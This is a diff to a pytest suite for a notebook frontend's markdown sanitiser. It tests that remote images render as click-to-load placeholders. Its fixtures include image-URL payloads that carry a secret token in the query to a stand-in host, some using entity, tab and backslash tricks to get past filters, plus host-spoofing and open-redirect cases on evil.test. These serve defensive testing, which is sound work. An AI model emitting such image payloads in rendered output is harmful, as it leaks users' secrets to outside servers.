@@ -10,6 +10,8 @@ import re
 from html.parser import HTMLParser
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from co_kernel.frontend import markdown_to_html, safe_bundle
 
@@ -42,7 +44,7 @@ def active_parts(html: str) -> list[str]:
             value = (value or "").strip().lower()
             if name.startswith("on") or name in ("id", "name", "srcdoc", "formaction"):
                 bad.append(f"{tag}[{name}]")
-            if name in ("href", "src") and not re.match(r"(https?:|mailto:|[^:]*$)", value):
+            if name in ("href", "src") and not re.match(r"(https?:|mailto:|//|[^:]*$)", value):
                 bad.append(f"{tag}[{name}={value}]")
             if name == "style" and not re.fullmatch(r"text-align:\w+", value):
                 bad.append(f"{tag}[style={value}]")
@@ -113,7 +115,7 @@ def test_markdown_still_renders() -> None:
         '<a href="https://example.org/a?b=1" rel="noopener noreferrer nofollow">docs</a>',
         '<a href="mailto:a@b.c"',
         '<a href="notes/todo.md"',
-        '<img src="https://example.org/c.png" alt="chart">',
+        '<a class="co-remote-image" href="https://example.org/c.png"',
         "<kbd>Ctrl</kbd>",
         "<sub>2</sub>",
     ):
@@ -147,3 +149,177 @@ def test_bundles_lose_their_markdown_and_keep_their_text() -> None:
     assert bundle["text/plain"] == "x (for terminals)"
     untouched = {"text/plain": "p", "application/json": {}}
     assert safe_bundle(untouched) is untouched
+
+
+# --- remote images: a placeholder that loads on a click --------------------------------------
+
+SECRET = "sk-live-5ecret/with space&more=yes"
+QUOTED = "sk-live-5ecret%2Fwith%20space%26more%3Dyes"
+HOST = "198.51.100.7:8080"
+
+# Every form an image URL reached the page in on today's main, and the spelling tricks a
+# browser undoes (scheme case, entities, tabs and newlines inside, backslashes).
+REMOTE_FORMS = {
+    "markdown": f"![status](http://{HOST}/c?d={QUOTED})",
+    "html": f'<img src="http://{HOST}/c?d={QUOTED}">',
+    "zero-size": f'<img width=0 height=0 src="http://{HOST}/c?d={QUOTED}">',
+    "details": f"<details><summary>More</summary><img src=http://{HOST}/c?d={QUOTED}></details>",
+    "table": f"| a |\n|---|\n| ![t](http://{HOST}/c?d={QUOTED}) |",
+    "reference": f"![a][r]\n\n[r]: http://{HOST}/c?d={QUOTED}",
+    "protocol-relative": f"![p](//{HOST}/c?d={QUOTED})",
+    "protocol-relative-html": f'<img src="//{HOST}/c?d={QUOTED}">',
+    "uppercase": f'<IMG SRC="HTTPS://{HOST}/c?d={QUOTED}">',
+    "entity": f'<img src="&#104;ttp://{HOST}/c?d={QUOTED}">',
+    "tab-in-scheme": f'<img src="ht&#x09;tp://{HOST}/c?d={QUOTED}">',
+    "newline-in-scheme": f'<img src="ht\ntp://{HOST}/c?d={QUOTED}">',
+    "leading-space": f'<img src="  \x01http://{HOST}/c?d={QUOTED}">',
+    "backslashes": f'<img src="/\\{HOST}/c?d={QUOTED}">',
+    "tab-slashes": f'<img src="/&#9;/{HOST}/c?d={QUOTED}">',
+    "inside-link": f"[![x](http://{HOST}/c?d={QUOTED})](https://example.org/page)",
+    "self-closing": f'<img src="http://{HOST}/c?d={QUOTED}"/>',
+}
+
+
+def _browser_url(src: str) -> str:
+    """An ``src`` as a browser reads it (WHATWG: edges and tabs/newlines gone, ``\\`` is ``/``)."""
+    kept = "".join(ch for ch in src if ch not in "\t\n\r").strip("".join(map(chr, range(33))))
+    return kept.replace("\\", "/")
+
+
+def remote_images(html: str) -> list[str]:
+    """The ``src`` of each image in ``html`` that a browser would fetch from outside the page."""
+    parser = _Elements()
+    parser.feed(html)
+    found = []
+    for tag, attrs in parser.found:
+        if tag != "img":
+            continue
+        src = _browser_url(dict(attrs).get("src") or "")
+        if src and (src.startswith("/") or re.match(r"[a-z][a-z0-9+.-]*:", src, re.I)):
+            found.append(src)
+    return found
+
+
+def placeholders(html: str) -> list[dict[str, str | None]]:
+    parser = _Elements()
+    parser.feed(html)
+    return [
+        dict(attrs)
+        for _tag, attrs in parser.found
+        if "co-remote-image" in (dict(attrs).get("class") or "").split()
+    ]
+
+
+@pytest.mark.parametrize("form", REMOTE_FORMS)
+def test_no_remote_image_loads_each_is_a_placeholder_showing_its_url(form: str) -> None:
+    html = markdown_to_html(f"Your status:\n\n{REMOTE_FORMS[form]}\n\nThanks.")
+    assert "<img" not in html, html
+    assert remote_images(html) == []
+    [shown] = placeholders(html)
+    assert shown["data-co-image"] is not None
+    assert shown["data-co-image"].endswith(f"{HOST}/c?d={QUOTED}")
+    # The host and the whole URL, its query decoded, nothing cut.
+    text = re.sub(r"<[^>]+>", "", html)
+    assert f"Image from {HOST.lower()} not loaded" in text.replace("&amp;", "&")
+    assert f"{HOST}/c?d={SECRET}" in text.replace("&amp;", "&")
+    assert active_parts(html) == [], html
+
+
+def test_outside_a_link_the_placeholder_is_a_plain_link_to_the_image() -> None:
+    [shown] = placeholders(markdown_to_html(REMOTE_FORMS["markdown"]))
+    assert shown["href"] == f"http://{HOST}/c?d={QUOTED}"
+    assert shown["rel"] == "noopener noreferrer nofollow"
+    # Inside a link a second <a> would end the first: a span carries the URL there.
+    [inner] = placeholders(markdown_to_html(REMOTE_FORMS["inside-link"]))
+    assert "href" not in inner and inner["data-co-image"] == f"http://{HOST}/c?d={QUOTED}"
+
+
+def test_what_hides_in_a_url_is_shown_not_obeyed() -> None:
+    html = markdown_to_html("![look](https://example.org/a?x=%E2%80%AEgnp.exe%00%0Aend)")
+    text = re.sub(r"<[^>]+>", "", html)
+    assert "\\u202egnp.exe\\u0000\\u000aend" in text
+    assert "\u202e" not in html
+
+
+def test_images_beside_the_notebook_load_a_root_path_of_the_server_waits() -> None:
+    html = markdown_to_html("![plot](plot.png) <img src=figures/a.png alt=a> ![b](./b%20c.png)")
+    assert placeholders(html) == []
+    assert '<img src="plot.png" alt="plot">' in html
+    assert '<img src="figures/a.png" alt="a">' in html
+    assert '<img src="./b%20c.png" alt="b">' in html
+    # "/x" is the server's, outside the folder: an open redirect there leads anywhere.
+    [shown] = placeholders(markdown_to_html("![x](/login?next=https://evil.example/)"))
+    assert shown["href"] == "/login?next=https://evil.example/"
+    assert "Image from the page&#x27;s own server not loaded" in markdown_to_html("![x](/a.png)")
+
+
+def test_listed_hosts_load_directly_and_only_they() -> None:
+    text = (
+        "![a](https://img.example.org/a.png) ![b](http://cdn.example.com:8443/b.png) "
+        "![c](https://x.example.com/c.png) ![d](https://example.com/d.png) "
+        "![e](https://img.example.org.evil.test/e.png) ![f](https://evil.test/f.png) "
+        '<img src="http://img.example.org\\@evil.test/g.png"> '
+        "![h](http://img.example.org:1@evil.test/h) ![i](http://[::1]:8000/i.png)"
+    )
+    hosts = ["IMG.example.org", "*.example.com", "[::1]:8000", "cdn.example.com:9999"]
+    html = markdown_to_html(text, hosts)
+    parser = _Elements()
+    parser.feed(html)
+    loaded = [dict(a)["src"] for t, a in parser.found if t == "img"]
+    assert loaded == [
+        "https://img.example.org/a.png",
+        "http://cdn.example.com:8443/b.png",  # *.example.com: any subdomain, any port
+        "https://x.example.com/c.png",
+        # A backslash is a slash, so its host is the first: written back as the browser reads it.
+        "http://img.example.org/@evil.test/g.png",
+        "http://[::1]:8000/i.png",
+    ]
+    assert all('class="co-image"' in html.split(src)[0].rsplit("<img", 1)[1] for src in loaded)
+    waiting = [p["data-co-image"] for p in placeholders(html)]
+    assert waiting == [
+        "https://example.com/d.png",  # *.domain is its subdomains, not itself
+        "https://img.example.org.evil.test/e.png",
+        "https://evil.test/f.png",
+        "http://img.example.org:1@evil.test/h",
+    ]
+    assert markdown_to_html(text, ["cdn.example.com:9999"]).count("<img") == 0
+
+
+def test_bundles_take_the_hosts_too() -> None:
+    bundle = safe_bundle({"text/markdown": "![a](https://ok.test/a.png)"}, ["ok.test"])
+    assert '<img class="co-image" src="https://ok.test/a.png" alt="a">' in bundle["text/html"]
+    assert "<img" not in safe_bundle({"text/markdown": "![a](https://ok.test/a.png)"})["text/html"]
+
+
+_URL_NOISE = st.sampled_from(
+    ["", " ", "\t", "\n", "\r", "\x00", "\\", "/", "//", ":", "&#9;", "&#x0A;", "&amp;",
+     "&#104;", "%2F", "@", "#", "?", "[", "]", "HTTP", "http", "https:", "h", "tp", "js", "data:",
+     "127.0.0.1", "example.org", ":80", "\u202e", "\u3002", "＼", "／", "%09"]
+)  # fmt: skip
+
+_IMAGE_FORMS = [
+    "![a]({u})", "![a](<{u}>)", '<img src="{u}">', "<img src='{u}'>", "<img src={u}>",
+    "![a][r]\n\n[r]: {u}", "| x |\n|---|\n| <img src=\"{u}\"> |",
+]  # fmt: skip
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    pieces=st.lists(_URL_NOISE, min_size=1, max_size=10),
+    form=st.sampled_from(_IMAGE_FORMS),
+)
+def test_no_spelling_of_a_url_gets_an_image_out(pieces: list[str], form: str) -> None:
+    html = markdown_to_html(form.format(u="".join(pieces)))
+    assert remote_images(html) == [], html
+
+
+def test_outside_text_cannot_pass_for_co_s_own_image_or_placeholder() -> None:
+    html = markdown_to_html(
+        '<img class="co-image" src="http://evil.test/x"> '
+        '<span class="co-remote-image" data-co-image="http://evil.test/y">hidden</span> '
+        '<a class="co-remote-image" href="http://evil.test/z">innocent text</a>'
+    )
+    assert "<img" not in html
+    # The only placeholder is Co's own, for the image, showing its URL.
+    assert [p["data-co-image"] for p in placeholders(html)] == ["http://evil.test/x"]
+    assert "http://evil.test/x</code>" in html
